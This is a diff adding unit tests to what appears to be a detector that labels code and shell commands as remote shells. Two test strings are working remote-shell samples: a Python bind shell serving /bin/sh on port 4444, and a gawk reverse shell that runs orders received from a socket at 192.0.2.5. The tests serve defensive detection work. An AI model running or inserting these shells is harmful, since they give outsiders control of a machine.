@@ -118,3 +118,38 @@ def test_downloads_into_the_workspace_are_not_installed_code() -> None:
         "wget https://example.com/archive.tar.gz",
     ):
         assert "installed-download" not in {e.kind for e in facts(command).executes}
+
+
+def test_a_socket_object_given_as_a_process_stream_is_remote_control() -> None:
+    code = (
+        "import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('', 4444))\n"
+        "srv.listen()\npeer, addr = srv.accept()\n"
+        "subprocess.Popen(['/bin/sh', '-i'], stdin=peer, stdout=peer, stderr=peer).wait()"
+    )
+    assert "remote-shell" in kinds(code)
+
+
+def test_a_log_file_given_as_a_process_stream_is_not() -> None:
+    code = (
+        "import socket, subprocess\nlog = open('build.log', 'w')\n"
+        "subprocess.run(['make'], stdout=log)\n"
+        "s = socket.create_connection(('127.0.0.1', 8000)); s.close()"
+    )
+    assert "remote-shell" not in kinds(code)
+
+
+def test_gawk_running_what_its_socket_sent_is_remote_control() -> None:
+    command = (
+        'gawk \'BEGIN { net = "/inet/tcp/0/192.0.2.5/7070"; while (1) { '
+        'printf "$ " |& net; net |& getline order; '
+        "while ((order |& getline line) > 0) print line |& net; close(order) } }'"
+    )
+    assert "remote-shell" in {e.kind for e in facts(command).executes}
+
+
+def test_gawk_sending_a_report_to_a_socket_is_not_remote_control() -> None:
+    command = (
+        'gawk \'BEGIN { net = "/inet/tcp/0/127.0.0.1/9125"; '
+        'print "build.ok:1|c" |& net; close(net) }\''
+    )
+    assert "remote-shell" not in {e.kind for e in facts(command).executes}
